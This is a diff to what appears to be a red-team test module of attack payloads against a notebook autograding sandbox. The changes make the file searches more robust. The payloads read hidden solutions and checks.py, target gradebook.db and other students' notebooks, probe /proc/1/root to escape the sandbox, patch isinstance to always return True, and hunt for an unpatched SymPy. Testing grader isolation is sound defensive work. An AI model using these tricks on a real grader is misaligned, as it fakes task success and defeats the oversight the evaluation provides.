@@ -99,11 +99,23 @@ builtins.isinstance = lambda *a: True
 """
 
 
+# Every file of the sandbox searched by name. os.walk does not follow links: a recursive glob of "/" does, and
+# loops in /usr/bin/X11 -> . until the cell's timeout stops it, before the attack has done anything with what
+# it found.
+WALK = """\
+def walk(top, name=None):
+    import os
+    return [os.path.join(d, f) for d, _, files in os.walk(top) for f in files if name is None or f == name]
+"""
+
+
 def print_hidden(ctx):
     return f"""\
 import glob, os
-for pattern in ["*.ipynb", "../**/*.ipynb", "/**/checks.py", {_lit(ctx['solutions'])} + "/**/*"]:
-    for p in glob.glob(pattern, recursive=True)[:20]:
+{WALK}
+for found in (glob.glob("*.ipynb"), glob.glob("../**/*.ipynb", recursive=True), walk("/", "checks.py"),
+              walk({_lit(ctx['solutions'])})):
+    for p in found[:20]:
         try:
             print(p, open(p).read()[:2000])
         except OSError:
@@ -117,7 +129,7 @@ raise ValueError(str(globals().get("In", "")) + str(os.listdir("/")))
 
 def fs_escape(ctx):
     return f"""\
-import os, sqlite3, shutil, glob
+import os, sqlite3, shutil
 targets = [{", ".join(_lit(p) for p in (ctx["gradebook"], ctx["victim_nb"], ctx["victim_autograded"],
                                          ctx["solutions"] + "/x.py", ctx["checks"],
                                          ctx["course"] + "/nbgrader_config.py"))}]
@@ -139,7 +151,8 @@ for up in ("..", "../..", "../../..", "/proc/1/root", "/proc/self/root/.."):
         print(up, os.listdir(up)[:10])
     except OSError as e:
         print(up, type(e).__name__)
-for d in glob.glob("/**/gradebook.db", recursive=True)[:5]:
+{WALK}
+for d in walk("/", "gradebook.db")[:5]:
     print("found", d)
 """
 
@@ -394,10 +407,13 @@ BYHAND_RELOAD = ("import importlib, sys\nfor _m in [m for m in sys.modules if m.
                  "    del sys.modules[_m]\nimport sympy as sp\nsp = importlib.reload(sp)\nz = sp.Symbol('z')\n\n"
                  "def dexp():\n    return sp.diff(sp.exp(z**2), z)\n")
 BYHAND_SOURCE = """\
-import glob, sys
+import os, sys
 z = sp.Symbol('z')
 _real = None
-for path in glob.glob("/**/sympy/__init__.py", recursive=True):   # another SymPy anywhere on disk?
+""" + WALK + """
+for path in walk("/", "__init__.py"):   # another SymPy anywhere on disk?
+    if not path.endswith("/sympy/__init__.py"):
+        continue
     text = open(path.replace("__init__.py", "core/function.py")).read()
     if "switched off" not in text:
         _real = path
